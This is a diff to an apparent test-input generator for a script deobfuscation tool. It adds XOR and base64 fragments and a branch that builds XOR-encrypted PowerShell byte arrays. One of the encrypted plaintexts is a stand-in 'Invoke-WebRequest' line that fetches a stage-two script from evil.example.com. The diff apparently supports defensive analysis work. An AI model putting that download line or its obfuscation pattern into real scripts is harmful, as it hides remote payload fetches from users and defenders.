@@ -101,7 +101,7 @@ def truncated_url(rng):
 
 
 FRAGMENTS = [
-    b"atob(\"aGVsbG8=\")", b"Base64Decode('d29ybGQ=')", b"[System.Convert]::FromBase64String('ZHVjaw==')", b" -bxor 35", b" -bxor 999", b"-xor 0",
+    b"atob(\"aGVsbG8=\")", b"Base64Decode('d29ybGQ=')", b"[System.Convert]::FromBase64String('ZHVjaw==')", b" -bxor 35", b" -bxor 999", b"-xor 0", b" -bxor 255", b",".join(b"%d" % ((i * 7) % 256) for i in range(505)) + b" -bxor 255", b",".join(b"%d" % ((i * 5) % 256) for i in range(505)) + b" -bxor 254",
     b"FromHexString('68656c6c6f20776f726c6468656c6c6f')", b"68656c6c6f20776f726c6468656c6c6f", b"12345678901234567890ABCDEF1234", b"&#72;&#105;&#x21;&#33;&#10;&#65;", b"&#xzz;&#1;&#2;&#3;&#4;&#5;",
     b"chr(65)", b"ChrW(233)", b"chrb(55296)", b"chr(99999)", b"chr(0000065)", b"unescape('%41%zz%')", b"h\x00e\x00l\x00l\x00o\x00 \x00w\x00o\x00r\x00l\x00d\x00",
     b'"a" + "b" & "c"', b"'x' &amp; 'y'", b'"ab"_\n+ "cd"', b'reverse("olleh")', b"StrReverse('dlrow')", b'"hello".replace("l", "L")', b"Replace('abc', 'b', 'X')", b"'a-b' -replace '-','+'",
@@ -145,6 +145,16 @@ def xor_document(rng):
             text = b"$s = " + l.enc(text) + b";"
         return text
     k = rng.random()
+    if k < 0.04:     # a byte array xored with a key held in a variable (key guessing), twice in one document / inside an encoded layer
+        def arr():
+            key = rng.choice([b"K3y", b"s3cr3t!", b"ab"])
+            plain = (rng.choice([b"Invoke-WebRequest http://evil.example.com/stage2.ps1 ; ", b"The quick brown fox jumps over the lazy dog. "]) * 20)[:rng.choice([601, 602, 605])]
+            ct = bytes(c ^ key[i % len(key)] for i, c in enumerate(plain))
+            return b"$d = " + b",".join(b"%d" % c for c in ct) + b"; $d[$i] = $d[$i] -bxor $k[$i % $k.Length]"
+        a = arr()
+        if rng.random() < 0.5:
+            a = b"var s = atob('" + base64.b64encode(a) + b"')"
+        return a + b"\r\n" + arr()
     if k < 0.3:      # key written out in the OUTER layer, used through a variable one or two layers further in
         return b"$k = 70 -bxor 35\r\n" + b"\r\n".join([stmt(b" -bxor $k", rng.randint(1, 2))] + [stmt() for _ in range(rng.randint(0, 2))])
     if k < 0.45:     # the reverse: variable outside, literal inside
